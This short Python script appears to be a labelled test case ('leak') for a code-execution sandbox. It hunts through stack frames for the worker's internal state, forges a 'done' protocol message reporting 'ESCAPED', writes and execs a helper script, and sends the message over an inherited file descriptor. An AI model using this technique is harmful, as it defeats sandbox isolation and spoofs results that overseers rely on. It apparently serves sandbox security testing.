# class: leak
# Writes a script into its folder and replaces itself by it; the script reports itself over the wire.
import os,sys
from guest.worker.msgpack import pack
f=sys._getframe()
while not (isinstance(f.f_locals.get("frame"),dict) and "cell" in f.f_locals["frame"]): f=f.f_back
b=pack({"op":"done","cell":f.f_locals["frame"]["cell"],"head":"ESC"+"APED\n","tail":"","chars":8,"error":None,"final":None,"names":[],"wall_s":0.0})
b=len(b).to_bytes(4,"little")+b; os.set_inheritable(3,True)
s=os.open("x_run",os.O_CREAT|os.O_WRONLY,0o700)
os.write(s,b"#!%s\nimport os; os.write(3,%r)\n"%(os.fsencode(sys.executable),b)); os.close(s)
try: os.execve("./x_run",["x"],{})
except OSError as e: print("no",e)
